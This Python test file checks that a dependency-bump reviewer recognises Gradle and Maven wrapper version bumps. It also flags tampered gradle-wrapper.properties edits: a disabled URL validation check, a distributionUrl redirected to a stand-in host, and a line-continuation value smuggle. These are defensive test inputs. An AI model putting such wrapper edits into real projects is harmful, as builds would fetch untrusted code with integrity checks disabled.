def test_keys_gradles_wrapper_task_adds_ride_with_the_bump(tmp_path: Path, was: bytes, now: bytes) -> None:
    path = "gradle/wrapper/gradle-wrapper.properties"
    patch, truth = _two_commits(tmp_path, {path: WRAPPER % (b"8.1.1", was)}, {path: WRAPPER % (b"8.2", now)})
    assert _moves(truth) == _moves(patch) == {("gradle", "8.1.1", "8.2")}
    assert not truth.problems and not patch.problems


@pytest.mark.parametrize("now", [
    b"validateDistributionUrl=false\n",  # the check turned off
    b"networkTimeout=10000\ndistributionUrl=https\\://127.0.0.1:9/gradle-8.2-bin.zip\n",
    b"networkTimeout=1\\\nvalidateDistributionUrl=true\n",  # a continued line is the previous key's value
])
def test_other_wrapper_edits_beside_the_bump_stay_a_problem(tmp_path: Path, now: bytes) -> None:
    path = "gradle/wrapper/gradle-wrapper.properties"
    patch, truth = _two_commits(tmp_path, {path: WRAPPER % (b"8.1.1", b"")}, {path: WRAPPER % (b"8.2", now)})
    for delta in (patch, truth):
        assert [p.manifest for p in delta.problems if p.kind == "partial"] == [path], delta


def test_a_maven_wrapper_bump_names_its_version_twice(tmp_path: Path) -> None:
    url = (b"distributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/%s/"
           b"apache-maven-%s-bin.zip\nwrapperUrl=https://repo.maven.apache.org/maven2/io/takari/maven-wrapper/"
           b"0.5.5/maven-wrapper-0.5.5.jar\n")
    path = ".mvn/wrapper/maven-wrapper.properties"
    patch, truth = _two_commits(tmp_path, {path: url % (b"3.9.4", b"3.9.4")}, {path: url % (b"3.9.5", b"3.9.5")})
    assert _moves(truth) == _moves(patch) == {("maven", "3.9.4", "3.9.5")} and not patch.problems
